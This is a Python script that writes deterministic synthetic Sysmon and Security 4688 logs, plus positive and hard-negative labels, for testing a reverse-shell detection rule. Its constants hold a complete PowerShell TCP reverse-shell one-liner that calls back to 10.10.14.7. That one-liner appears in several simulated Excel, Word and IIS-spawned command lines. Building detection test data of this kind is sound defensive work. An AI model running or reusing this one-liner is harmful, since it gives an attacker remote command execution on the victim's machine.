"""Write the synthetic sample logs shipped in `src/kqlhunt/samples/`.

Every event below is invented: hosts, users, hashes, GUIDs and addresses. The output is
deterministic (no clock, no randomness), so running this script again reproduces the
checked-in files byte for byte; the tests check that.

Usage:
    python scripts/make_samples.py [--out DIR]
"""

from __future__ import annotations

import argparse
import hashlib
import json
import logging
import sys
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape, quoteattr

logger = logging.getLogger("make_samples")

DEFAULT_OUT = Path(__file__).resolve().parents[1] / "src" / "kqlhunt" / "samples"
RULE_ID = "a2b58512-1298-4a25-a4c7-88ddfed78b0d"
DAY = "2026-11-02"
EVENT_NS = "http://schemas.microsoft.com/win/2004/08/events/event"

SYSMON_XML = "sysmon_process_create.xml"
SECURITY_XML = "security_4688.xml"
NDJSON = "process_events.ndjson"

SYSMON_PROVIDER = ("Microsoft-Windows-Sysmon", "5770385f-c22a-43e0-bf4c-06f5698ffbd9")
SECURITY_PROVIDER = ("Microsoft-Windows-Security-Auditing", "54849625-5478-4994-a5ba-3e3b0328c30d")

# --- the cast ---------------------------------------------------------------------------

WS_FIN = "WS-FIN-07.contoso.local"
SRV_APP = "SRV-APP-02.contoso.local"
WS_HR = "WS-HR-03.contoso.local"

DOMAIN_SID = "S-1-5-21-2841157370-1903725125-3346220516"
USERS: dict[str, tuple[str, str]] = {
    # account -> (SID, logon id)
    "CONTOSO\\jdoe": (f"{DOMAIN_SID}-1107", "0x3b1f2a"),
    "CONTOSO\\asmith": (f"{DOMAIN_SID}-1142", "0x2e7c91"),
    "CONTOSO\\adm-rkhan": (f"{DOMAIN_SID}-1203", "0x5a0d44"),
    "CONTOSO\\svc-payroll": (f"{DOMAIN_SID}-1311", "0x1c8e0"),
    "NT AUTHORITY\\SYSTEM": ("S-1-5-18", "0x3e7"),
}

SYS32 = "C:\\Windows\\System32"
POWERSHELL = f"{SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe"
POWERSHELL_ISE = f"{SYS32}\\WindowsPowerShell\\v1.0\\PowerShell_ISE.exe"
PWSH = "C:\\Program Files\\PowerShell\\7\\pwsh.exe"
CMD = f"{SYS32}\\cmd.exe"
CONHOST = f"{SYS32}\\conhost.exe"
SVCHOST = f"{SYS32}\\svchost.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16"
W3WP = f"{SYS32}\\inetsrv\\w3wp.exe"
PYTHON = "C:\\Program Files\\Python312\\python.exe"

SCHEDULE = f"{SVCHOST} -k netsvcs -p -s Schedule"

# image file name -> FileVersion, Description, Product, Company, OriginalFileName
_WIN = "10.0.19041.4355 (WinBuild.160101.0800)"
_MS = ("Microsoft® Windows® Operating System", "Microsoft Corporation")
_OFFICE = ("16.0.17928.20216",)
# fmt: off
VERSION_INFO: dict[str, tuple[str, str, str, str, str]] = {
    "powershell.exe": (_WIN, "Windows PowerShell", *_MS, "PowerShell.EXE"),
    "powershell_ise.exe": (_WIN, "Windows PowerShell ISE", *_MS, "PowerShell_ISE.EXE"),
    "cmd.exe": (_WIN, "Windows Command Processor", *_MS, "Cmd.Exe"),
    "conhost.exe": (_WIN, "Console Window Host", *_MS, "CONHOST.EXE"),
    "net.exe": (_WIN, "Net Command", *_MS, "net.exe"),
    "ipconfig.exe": (_WIN, "IP Configuration Utility", *_MS, "ipconfig.exe"),
    "gpupdate.exe": (_WIN, "Microsoft® Windows Group Policy Update Utility", *_MS,
                     "gpupdate.exe"),
    "wsmprovhost.exe": (_WIN, "Host process for WinRM plug-ins", *_MS, "wsmprovhost.exe"),
    "outlook.exe": (*_OFFICE, "Microsoft Outlook", "Microsoft Outlook", _MS[1], "Outlook.exe"),
    "excel.exe": (*_OFFICE, "Microsoft Excel", "Microsoft Office", _MS[1], "Excel.exe"),
    "winword.exe": (*_OFFICE, "Microsoft Word", "Microsoft Office", _MS[1], "WinWord.exe"),
    "msedge.exe": ("130.0.2849.68", "Microsoft Edge", "Microsoft Edge", _MS[1], "msedge.exe"),
    "pwsh.exe": ("7.4.6.500", "pwsh", "PowerShell", _MS[1], "pwsh.dll"),
}
# fmt: on
UNKNOWN_VERSION = ("-", "-", "-", "-", "-")

REVERSE_SHELL_BODY = (
    "$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};"
    "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;"
    "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);"
    "$sendback = (iex $data 2>&1 | Out-String );"
    "$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';"
    "$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);"
    "$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()"
)


def one_liner(port: int, client_type: str = "System.Net.Sockets.TCPClient") -> str:
    """The Invoke-PowerShellTcpOneLine reverse shell, connecting to 10.10.14.7."""
    return f"$client = New-Object {client_type}('10.10.14.7',{port});{REVERSE_SHELL_BODY}"


# --- events -----------------------------------------------------------------------------


@dataclass(frozen=True)
class Spec:
    """One process creation. `label` is "positive", "negative" (a hard negative) or ""."""

    file: str
    kind: str  # "sysmon" or "4688"
    host: str
    time: str  # HH:MM:SS.ffffff on DAY, UTC
    image: str
    command_line: str
    user: str
    parent_image: str
    parent_command_line: str
    parent_user: str = ""
    integrity: str = "Medium"
    session: int = 1
    target_user: str = ""  # 4688 only: the new logon, when it differs from the subject
    label: str = ""
    note: str = ""


def _specs() -> list[Spec]:
    fin, app, hr = WS_FIN, SRV_APP, WS_HR
    jdoe, asmith, admin = "CONTOSO\\jdoe", "CONTOSO\\asmith", "CONTOSO\\adm-rkhan"
    system, payroll = "NT AUTHORITY\\SYSTEM", "CONTOSO\\svc-payroll"
    sx, sec, nd = SYSMON_XML, SECURITY_XML, NDJSON
    excel, word = f"{OFFICE}\\EXCEL.EXE", f"{OFFICE}\\WINWORD.EXE"
    ps_console = f"\\??\\{CONHOST} 0xffffffff -ForceV1"
    logon_script = f'{CMD} /c "\\\\contoso.local\\NETLOGON\\map-drives.cmd"'
    clear_temp = (
        f"{POWERSHELL} -NoProfile -ExecutionPolicy Bypass -File "
        "C:\\ProgramData\\Contoso\\Maintenance\\Clear-TempFiles.ps1"
    )
    wsman = (f"{SYS32}\\wsmprovhost.exe", f"{SYS32}\\wsmprovhost.exe -Embedding")
    edge = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
    cv = f'"{word}" /n "C:\\Users\\asmith\\Downloads\\CV_Marketing_2026.docm" /o ""'
    shell_cmd = f'cmd.exe /c powershell -nop -c "{one_liner(4444)}"'
    # fmt: off
    return [
        # WS-FIN-07: Sysmon, rendered XML. A finance workstation; the shell comes from Excel.
        Spec(sx, "sysmon", fin, "07:52:11.402117", CMD, logon_script, jdoe,
             f"{SYS32}\\gpscript.exe", f"{SYS32}\\gpscript.exe /Logon"),
        Spec(sx, "sysmon", fin, "07:52:12.018664", f"{SYS32}\\net.exe",
             "net  use F: \\\\fs01.contoso.local\\finance /persistent:no", jdoe,
             CMD, logon_script),
        Spec(sx, "sysmon", fin, "07:53:40.771930", f"{OFFICE}\\OUTLOOK.EXE",
             f'"{OFFICE}\\OUTLOOK.EXE" ', jdoe, EXPLORER, EXPLORER),
        Spec(sx, "sysmon", fin, "08:05:02.338471", excel,
             f'"{excel}" "\\\\fs01.contoso.local\\finance\\Q4\\forecast-2026-q4.xlsx"', jdoe,
             EXPLORER, EXPLORER),
        Spec(sx, "sysmon", fin, "08:30:00.104385", POWERSHELL, clear_temp, system,
             SVCHOST, SCHEDULE, integrity="System", session=0),
        Spec(sx, "sysmon", fin, "08:30:00.131902", CONHOST, ps_console, system,
             POWERSHELL, clear_temp, integrity="System", session=0),
        Spec(sx, "sysmon", fin, "09:10:44.560218", POWERSHELL,
             f'{POWERSHELL} -NoProfile -NonInteractive -Command "$client = New-Object '
             "System.Net.WebClient; $client.DownloadFile('https://intranet.contoso.local/"
             "software/FinanceAddin.msi','C:\\Windows\\Temp\\FinanceAddin.msi')\"", system,
             SVCHOST, SCHEDULE, integrity="System", session=0,
             label="negative", note="WebClient download cradle, not a TCP client"),
        Spec(sx, "sysmon", fin, "09:14:03.123456", POWERSHELL,
             f'powershell.exe -nop -c "{one_liner(4444)}"', jdoe,
             excel, f'"{excel}" "C:\\Users\\jdoe\\Downloads\\Invoice_88213.xlsm"',
             label="positive", note="reverse shell started by an Excel macro"),
        Spec(sx, "sysmon", fin, "09:14:03.150977", CONHOST, ps_console, jdoe,
             POWERSHELL, f'powershell.exe -nop -c "{one_liner(4444)}"'),
        Spec(sx, "sysmon", fin, "11:15:27.904413", edge,
             f'"{edge}" --single-argument https://intranet.contoso.local/expenses', jdoe,
             EXPLORER, EXPLORER),
        Spec(sx, "sysmon", fin, "12:40:05.317760", CMD, f'"{CMD}" ', jdoe, EXPLORER, EXPLORER),
        Spec(sx, "sysmon", fin, "12:40:19.845003", f"{SYS32}\\ipconfig.exe", "ipconfig  /all",
             jdoe, CMD, f'"{CMD}" '),
        Spec(sx, "sysmon", fin, "13:05:48.229174", POWERSHELL, f'"{POWERSHELL}" ', jdoe,
             EXPLORER, EXPLORER),
        Spec(sx, "sysmon", fin, "14:22:01.660532", *wsman, admin,
             SVCHOST, f"{SVCHOST} -k DcomLaunch -p", parent_user=system, integrity="High",
             session=0),
        Spec(sx, "sysmon", fin, "14:23:37.118250", f"{SYS32}\\gpupdate.exe",
             '"C:\\Windows\\system32\\gpupdate.exe" /force', admin, *wsman,
             integrity="High", session=0),
        Spec(sx, "sysmon", fin, "15:41:09.482716", PWSH, f'"{PWSH}" -nop -c "{one_liner(4445)}"',
             jdoe, EXPLORER, EXPLORER,
             label="negative", note="the one-liner under pwsh.exe, outside the rule's list"),
        Spec(sx, "sysmon", fin, "16:45:30.004871",
             "C:\\Users\\jdoe\\AppData\\Local\\Temp\\xpowershell.exe",
             f'xpowershell.exe -nop -c "{one_liner(4446)}"', jdoe, EXPLORER, EXPLORER,
             label="negative", note="xpowershell.exe is not powershell.exe"),

        # SRV-APP-02: Security 4688, rendered XML. An IIS application server.
        Spec(sec, "4688", app, "06:00:00.018273", POWERSHELL,
             f"{POWERSHELL} -NoProfile -NonInteractive -ExecutionPolicy Bypass -File "
             "D:\\Scripts\\Rotate-IISLogs.ps1", system, SVCHOST, "", integrity="System"),
        Spec(sec, "4688", app, "06:00:00.040912", CONHOST, ps_console, system,
             POWERSHELL, "", integrity="System"),
        Spec(sec, "4688", app, "07:30:12.551804", W3WP,
             f'{W3WP} -ap "Payroll" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm5c1e '
             '-h "C:\\inetpub\\temp\\apppools\\Payroll\\Payroll.config" -w "" -m 0', system,
             SVCHOST, "", integrity="High", target_user=payroll),
        Spec(sec, "4688", app, "08:41:10.907316", POWERSHELL, f'"{POWERSHELL}" ', admin,
             EXPLORER, "", integrity="High"),
        Spec(sec, "4688", app, "08:42:35.264490", CMD, f'"{CMD}" ', admin,
             EXPLORER, "", integrity="High"),
        Spec(sec, "4688", app, "08:42:51.730055", POWERSHELL,
             'powershell.exe -NoProfile -Command "Get-Process -Name w3wp | '
             'Sort-Object CPU -Descending | Format-Table Id,CPU,WS"', admin,
             CMD, "", integrity="High"),
        Spec(sec, "4688", app, "09:05:12.482391", POWERSHELL,
             'powershell.exe -NoProfile -Command "Import-Module WebAdministration; '
             'Invoke-Command -ComputerName WS-FIN-07 -ScriptBlock { Get-Service -Name Spooler }"',
             admin, CMD, "", integrity="High"),
        Spec(sec, "4688", app, "10:14:20.193847", f"{SYS32}\\inetsrv\\appcmd.exe",
             f"{SYS32}\\inetsrv\\appcmd.exe list apppool /state:Started", admin,
             CMD, "", integrity="High"),
        Spec(sec, "4688", app, "11:02:27.640118", POWERSHELL,
             f'powershell.exe -nop -w hidden -c "{one_liner(443)}"', payroll,
             W3WP, "", integrity="High", label="positive",
             note="reverse shell spawned by the IIS worker; the 4688 target user is '-'"),
        Spec(sec, "4688", app, "11:02:27.671530", CONHOST, ps_console, payroll,
             POWERSHELL, "", integrity="High"),
        Spec(sec, "4688", app, "12:31:44.005917", PYTHON,
             f'"{PYTHON}" C:\\Tools\\detection-tests\\emit_cmdline.py "{one_liner(4444)}"',
             admin, CMD, "", integrity="High",
             label="negative", note="the one-liner as an argument of python.exe"),
        Spec(sec, "4688", app, "13:15:06.857302", POWERSHELL,
             'powershell.exe -NoProfile -Command "$client=New-Object System.Net.Sockets.'
             "TCPClient('sql01.contoso.local',1433);$client.Connected;$client.Close()\"",
             admin, CMD, "", integrity="High",
             label="negative", note="port check written without spaces around '='"),
        Spec(sec, "4688", app, "14:21:50.318826", POWERSHELL,
             'powershell.exe -NoExit -Command "Enter-PSSession -ComputerName '
             'WS-FIN-07.contoso.local"', admin, CMD, "", integrity="High"),
        Spec(sec, "4688", app, "15:00:33.761943", f"{SYS32}\\sc.exe",
             f"{SYS32}\\sc.exe query W3SVC", admin, CMD, "", integrity="High"),

        # WS-HR-03: Sysmon, and SRV-APP-02's evening 4688 events, as evtx_dump NDJSON.
        Spec(nd, "sysmon", hr, "08:01:15.337102", f"{OFFICE}\\OUTLOOK.EXE",
             f'"{OFFICE}\\OUTLOOK.EXE" ', asmith, EXPLORER, EXPLORER),
        Spec(nd, "sysmon", hr, "09:00:00.212765", POWERSHELL,
             f'{POWERSHELL} -NoProfile -ExecutionPolicy Bypass -Command "Import-Module '
             "PSWindowsUpdate; Get-WindowsUpdate -MicrosoftUpdate | Out-File "
             'C:\\ProgramData\\Contoso\\Logs\\updates.txt"', system,
             SVCHOST, SCHEDULE, integrity="System", session=0),
        Spec(nd, "sysmon", hr, "10:31:02.905561", word, cv, asmith, EXPLORER, EXPLORER),
        Spec(nd, "sysmon", hr, "10:36:58.410337", POWERSHELL,
             f'powershell.exe -nop -c "{one_liner(4444, "System.Net.Sockets.TCPClientX")}"',
             asmith, word, cv,
             label="negative", note="TCPClientX is a different type name"),
        Spec(nd, "sysmon", hr, "10:37:20.118094", CMD, shell_cmd, asmith, word, cv,
             label="positive", note="cmd.exe /c powershell from a Word macro"),
        Spec(nd, "sysmon", hr, "10:37:20.164871", POWERSHELL,
             f'powershell  -nop -c "{one_liner(4444)}"', asmith, CMD, shell_cmd,
             label="positive", note="the powershell.exe started by that cmd.exe"),
        Spec(nd, "sysmon", hr, "12:10:44.620009", POWERSHELL_ISE, f'"{POWERSHELL_ISE}" ',
             asmith, EXPLORER, EXPLORER),
        Spec(nd, "sysmon", hr, "13:02:11.884516", CMD, f"{CMD} /c ipconfig /flushdns", admin,
             *wsman, integrity="High", session=0),
        Spec(nd, "sysmon", hr, "13:02:11.901277", f"{SYS32}\\ipconfig.exe",
             "ipconfig  /flushdns", admin, CMD, f"{CMD} /c ipconfig /flushdns",
             integrity="High", session=0),
        Spec(nd, "sysmon", hr, "15:30:08.447913", POWERSHELL,
             'powershell.exe -NoProfile -Command "Get-Process | Where-Object { $_.WorkingSet64 '
             '-gt 500MB } | Select-Object Name,Id"', asmith, EXPLORER, EXPLORER),
        Spec(nd, "4688", app, "17:00:00.027716", POWERSHELL,
             f"{POWERSHELL} -NoProfile -NonInteractive -File D:\\Scripts\\Backup-PayrollDb.ps1",
             system, SVCHOST, "", integrity="System"),
        Spec(nd, "4688", app, "17:00:00.049384", CONHOST, ps_console, system,
             POWERSHELL, "", integrity="System"),
        Spec(nd, "4688", app, "17:45:19.556210", POWERSHELL,
             'powershell.exe -NoProfile -Command "Test-NetConnection -ComputerName '
             'sql01.contoso.local -Port 1433"', admin, CMD, "", integrity="High"),
        Spec(nd, "4688", app, "18:10:02.193654", POWERSHELL,
             'powershell.exe -NoProfile -Command "$tcp = New-Object System.Net.Sockets.'
             "TcpClient; $tcp.Connect('sql01.contoso.local',1433); $tcp.Connected\"",
             admin, CMD, "", integrity="High",
             label="negative", note="a TcpClient port check held in $tcp, not $client"),
        Spec(nd, "4688", app, "18:30:41.772088", CMD, f'{CMD} /c "D:\\Scripts\\cleanup.cmd"',
             system, SVCHOST, "", integrity="System"),
    ]
    # fmt: on


# --- rendering --------------------------------------------------------------------------


@dataclass(frozen=True)
class Event:
    """A rendered event: System values and EventData pairs, in Windows' order."""

    spec: Spec
    record_id: int
    system: dict[str, Any]
    data: list[tuple[str, Any]]


# First EventRecordID of each (host, log), so ids never repeat within a file.
_FIRST_RECORD = {
    (WS_FIN, "sysmon"): 48_213,
    (WS_HR, "sysmon"): 30_871,
    (SRV_APP, "4688"): 912_306,
}
_SYSMON_PID = {WS_FIN: 3012, WS_HR: 2876}
_INTEGRITY_LABELS = {"Medium": "S-1-16-8192", "High": "S-1-16-12288", "System": "S-1-16-16384"}


def _digest(*parts: object, size: int = 32) -> str:
    text = "|".join(str(p) for p in parts)
    return hashlib.sha256(text.encode("utf-8")).hexdigest()[:size]


def _number(*parts: object, low: int, high: int) -> int:
    return low + int(_digest(*parts, size=8), 16) % (high - low)


def _guid(*parts: object) -> str:
    h = _digest(*parts)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:32]}"


def _process_guid(host: str, image: str, when: datetime) -> str:
    machine = _digest("machine", host, size=8)
    stamp = f"{int(when.timestamp()) & 0xFFFFFFFF:08x}"
    tail = _digest("process", host, image, when.isoformat(), size=12)
    return f"{machine}-{stamp[:4]}-{stamp[4:]}-{tail[:4]}-0000{tail[4:12]}"


def _hashes(image: str) -> str:
    name = image.lower()
    return ",".join(
        [
            f"SHA1={hashlib.sha1(f'sha1|{name}'.encode()).hexdigest().upper()}",
            f"MD5={hashlib.md5(f'md5|{name}'.encode()).hexdigest().upper()}",
            f"SHA256={hashlib.sha256(f'sha256|{name}'.encode()).hexdigest().upper()}",
            f"IMPHASH={hashlib.md5(f'imphash|{name}'.encode()).hexdigest().upper()}",
        ]
    )


def _when(spec: Spec) -> datetime:
    return datetime.fromisoformat(f"{DAY}T{spec.time}").replace(tzinfo=timezone.utc)


@dataclass(frozen=True)
class Ids:
    """Process identity of an event and of its parent."""

    guid: str
    pid: int
    parent_guid: str
    parent_pid: int


class ProcessTree:
    """Hands out process ids and GUIDs, reusing a parent's when the parent was logged too."""

    def __init__(self) -> None:
        self.by_command: dict[tuple[str, str, str], tuple[str, int]] = {}
        self.by_image: dict[tuple[str, str], tuple[str, int]] = {}

    def ids(self, spec: Spec, started: datetime) -> Ids:
        guid = _process_guid(spec.host, spec.image, started)
        pid = _number("pid", spec.host, spec.image, spec.time, low=1200, high=15000) & ~3
        parent = self._find(spec.host, spec.parent_image, spec.parent_command_line)
        if parent is None:
            # A long-running parent (explorer, svchost) logged before the sample window.
            boot = datetime.fromisoformat(f"{DAY}T06:58:12").replace(tzinfo=timezone.utc)
            owner = spec.parent_user or spec.user
            parent = (
                _process_guid(spec.host, spec.parent_image + owner, boot),
                _number("ppid", spec.host, spec.parent_image, owner, low=600, high=9000) & ~3,
            )
        self.by_command[(spec.host, spec.image.lower(), spec.command_line)] = (guid, pid)
        self.by_image[(spec.host, spec.image.lower())] = (guid, pid)
        return Ids(guid, pid, *parent)

    def _find(self, host: str, image: str, command_line: str) -> tuple[str, int] | None:
        if command_line:
            return self.by_command.get((host, image.lower(), command_line))
        return self.by_image.get((host, image.lower()))


def _system(spec: Spec, record_id: int, when: datetime) -> dict[str, Any]:
    is_sysmon = spec.kind == "sysmon"
    provider = SYSMON_PROVIDER if is_sysmon else SECURITY_PROVIDER
    return {
        "Provider": provider,
        "EventID": 1 if is_sysmon else 4688,
        "Version": 5 if is_sysmon else 2,
        "Level": 4 if is_sysmon else 0,
        "Task": 1 if is_sysmon else 13312,
        "Opcode": 0,
        "Keywords": "0x8000000000000000" if is_sysmon else "0x8020000000000000",
        "TimeCreated": when,
        "EventRecordID": record_id,
        "ProcessID": _SYSMON_PID.get(spec.host, 3012) if is_sysmon else 4,
        "ThreadID": _number("thread", spec.host, spec.time, low=400, high=9000) & ~3,
        "Channel": "Microsoft-Windows-Sysmon/Operational" if is_sysmon else "Security",
        "Computer": spec.host,
        "UserID": "S-1-5-18" if is_sysmon else None,
    }


def _started(when: datetime) -> datetime:
    # Sysmon's UtcTime is the process start, a little before the event is written.
    return when - timedelta(microseconds=1800 + when.microsecond % 700)


def _sysmon_data(spec: Spec, started: datetime, ids: Ids) -> list[tuple[str, Any]]:
    info = VERSION_INFO.get(spec.image.rsplit("\\", 1)[-1].lower(), UNKNOWN_VERSION)
    _, logon_id = USERS[spec.user]
    logon_guid = f"{_digest('machine', spec.host, size=8)}-{_guid('logon', spec.user)[9:]}"
    parent_user = spec.parent_user or spec.user
    return [
        ("RuleName", "-"),
        ("UtcTime", started.strftime("%Y-%m-%d %H:%M:%S.") + f"{started.microsecond // 1000:03d}"),
        ("ProcessGuid", ids.guid),
        ("ProcessId", ids.pid),
        ("Image", spec.image),
        ("FileVersion", info[0]),
        ("Description", info[1]),
        ("Product", info[2]),
        ("Company", info[3]),
        ("OriginalFileName", info[4]),
        ("CommandLine", spec.command_line),
        ("CurrentDirectory", _current_directory(spec)),
        ("User", spec.user),
        ("LogonGuid", logon_guid),
        ("LogonId", logon_id),
        ("TerminalSessionId", spec.session),
        ("IntegrityLevel", spec.integrity),
        ("Hashes", _hashes(spec.image)),
        ("ParentProcessGuid", ids.parent_guid),
        ("ParentProcessId", ids.parent_pid),
        ("ParentImage", spec.parent_image),
        ("ParentCommandLine", spec.parent_command_line),
        ("ParentUser", parent_user),
    ]


def _current_directory(spec: Spec) -> str:
    if spec.user == "NT AUTHORITY\\SYSTEM" or spec.session == 0:
        return "C:\\Windows\\system32\\"
    return f"C:\\Users\\{spec.user.split(chr(92))[-1]}\\"


def _security_data(spec: Spec, ids: Ids) -> list[tuple[str, Any]]:
    domain, name = spec.user.split("\\")
    sid, logon_id = USERS[spec.user]
    if spec.user == "NT AUTHORITY\\SYSTEM":
        domain, name = "CONTOSO", spec.host.split(".")[0] + "$"
    target_sid, target_name, target_domain, target_logon = "S-1-0-0", "-", "-", "0x0"
    if spec.target_user:
        target_domain, target_name = spec.target_user.split("\\")
        target_sid, target_logon = USERS[spec.target_user]
    elevation = "%%1937" if spec.integrity == "High" and "adm-" in spec.user else "%%1936"
    return [
        ("SubjectUserSid", sid),
        ("SubjectUserName", name),
        ("SubjectDomainName", domain),
        ("SubjectLogonId", logon_id),
        ("NewProcessId", hex(ids.pid)),
        ("NewProcessName", spec.image),
        ("TokenElevationType", elevation),
        ("ProcessId", hex(ids.parent_pid)),
        ("CommandLine", spec.command_line),
        ("TargetUserSid", target_sid),
        ("TargetUserName", target_name),
        ("TargetDomainName", target_domain),
        ("TargetLogonId", target_logon),
        ("ParentProcessName", spec.parent_image),
        ("MandatoryLabel", _INTEGRITY_LABELS[spec.integrity]),
    ]


def build_events(specs: Iterable[Spec]) -> list[Event]:
    """Number the events per host and log, in time order, and fill in their fields."""
    counters = dict(_FIRST_RECORD)
    tree = ProcessTree()
    events: list[Event] = []
    for spec in sorted(specs, key=lambda s: (s.time, s.host)):
        record_id = counters[(spec.host, spec.kind)]
        counters[(spec.host, spec.kind)] += 1 + _number("gap", spec.time, low=0, high=40)
        when = _when(spec)
        ids = tree.ids(spec, _started(when))
        if spec.kind == "sysmon":
            data = _sysmon_data(spec, _started(when), ids)
        else:
            data = _security_data(spec, ids)
        events.append(Event(spec, record_id, _system(spec, record_id, when), data))
    return events


def _xml_time(when: datetime) -> str:
    # Windows renders seven fractional digits (100 ns ticks).
    return when.strftime("%Y-%m-%dT%H:%M:%S.") + f"{when.microsecond:06d}0Z"


def render_xml(events: Iterable[Event]) -> str:
    """An `<Events>` document, each event as Windows renders it (Event Viewer's XML view)."""
    lines = ['<?xml version="1.0" encoding="utf-8"?>', "<Events>"]
    for event in events:
        s = event.system
        name, guid = s["Provider"]
        security = f" UserID={quoteattr(s['UserID'])}" if s["UserID"] else ""
        lines += [
            f'  <Event xmlns="{EVENT_NS}">',
            "    <System>",
            f'      <Provider Name="{name}" Guid="{{{guid}}}" />',
            f"      <EventID>{s['EventID']}</EventID>",
            f"      <Version>{s['Version']}</Version>",
            f"      <Level>{s['Level']}</Level>",
            f"      <Task>{s['Task']}</Task>",
            f"      <Opcode>{s['Opcode']}</Opcode>",
            f"      <Keywords>{s['Keywords']}</Keywords>",
            f'      <TimeCreated SystemTime="{_xml_time(s["TimeCreated"])}" />',
            f"      <EventRecordID>{s['EventRecordID']}</EventRecordID>",
            "      <Correlation />",
            f'      <Execution ProcessID="{s["ProcessID"]}" ThreadID="{s["ThreadID"]}" />',
            f"      <Channel>{s['Channel']}</Channel>",
            f"      <Computer>{escape(s['Computer'])}</Computer>",
            f"      <Security{security} />",
            "    </System>",
            "    <EventData>",
        ]
        for key, value in event.data:
            if key.endswith("Guid") and event.spec.kind == "sysmon":
                value = f"{{{value}}}"
            lines.append(f'      <Data Name="{key}">{escape(str(value))}</Data>')
        lines += ["    </EventData>", "  </Event>"]
    lines.append("</Events>")
    return "\n".join(lines) + "\n"


def render_ndjson(events: Iterable[Event]) -> str:
    """One evtx_dump JSON record per line (`evtx_dump -o jsonl` layout)."""
    lines = []
    for event in events:
        s = event.system
        name, guid = s["Provider"]
        when = s["TimeCreated"].strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        security = {"#attributes": {"UserID": s["UserID"]}} if s["UserID"] else None
        system = {
            "Provider": {"#attributes": {"Name": name, "Guid": guid.upper()}},
            "EventID": s["EventID"],
            "Version": s["Version"],
            "Level": s["Level"],
            "Task": s["Task"],
            "Opcode": s["Opcode"],
            "Keywords": s["Keywords"],
            "TimeCreated": {"#attributes": {"SystemTime": when}},
            "EventRecordID": s["EventRecordID"],
            "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": s["ProcessID"], "ThreadID": s["ThreadID"]}},
            "Channel": s["Channel"],
            "Computer": s["Computer"],
            "Security": security,
        }
        data = {k: v.upper() if k.endswith("Guid") else v for k, v in event.data}
        record = {
            "Event": {"#attributes": {"xmlns": EVENT_NS}, "System": system, "EventData": data}
        }
        lines.append(json.dumps(record, ensure_ascii=False, separators=(",", ":")))
    return "\n".join(lines) + "\n"


# --- labels -----------------------------------------------------------------------------


def _account(spec: Spec) -> str:
    return spec.target_user or spec.user


def render_labels(events: Iterable[Event]) -> str:
    """labels.json: the expected rule hits, and the near misses that must not hit."""
    positives: list[dict[str, Any]] = []
    negatives: list[dict[str, Any]] = []
    for event in events:
        spec = event.spec
        entry: dict[str, Any] = {
            "file": spec.file,
            "record_id": event.record_id,
            "computer": spec.host,
            "event_id": event.system["EventID"],
            "rule_id": RULE_ID,
            "note": spec.note,
        }
        if spec.label == "positive":
            entry["entities"] = [
                {"entity_type": "Account", "identifiers": {"FullName": _account(spec)}},
                {"entity_type": "Host", "identifiers": {"FullName": spec.host.split(".")[0]}},
            ]
            positives.append(entry)
        elif spec.label == "negative":
            negatives.append(entry)
    labels = {
        "synthetic": True,
        "description": "Expected results of the bundled rules on these samples. Every event "
        "here is invented; 'positives' must raise an alert of rule_id with exactly the "
        "listed entities, 'hard_negatives' look close but must not.",
        "positives": positives,
        "hard_negatives": negatives,
    }
    return json.dumps(labels, ensure_ascii=False, indent=2) + "\n"


def write_samples(out: Path) -> list[Path]:
    """Write every sample file into `out` and return their paths."""
    events = build_events(_specs())
    by_file = {
        SYSMON_XML: render_xml(e for e in events if e.spec.file == SYSMON_XML),
        SECURITY_XML: render_xml(e for e in events if e.spec.file == SECURITY_XML),
        NDJSON: render_ndjson(e for e in events if e.spec.file == NDJSON),
        "labels.json": render_labels(events),
    }
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for name, text in by_file.items():
        path = out / name
        path.write_bytes(text.encode("utf-8"))
        written.append(path)
    return written


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT, help="output folder")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(message)s", stream=sys.stderr)
    for path in write_samples(args.out):
        logger.info("wrote %s", path)
    return 0


if __name__ == "__main__":
    sys.exit(main())
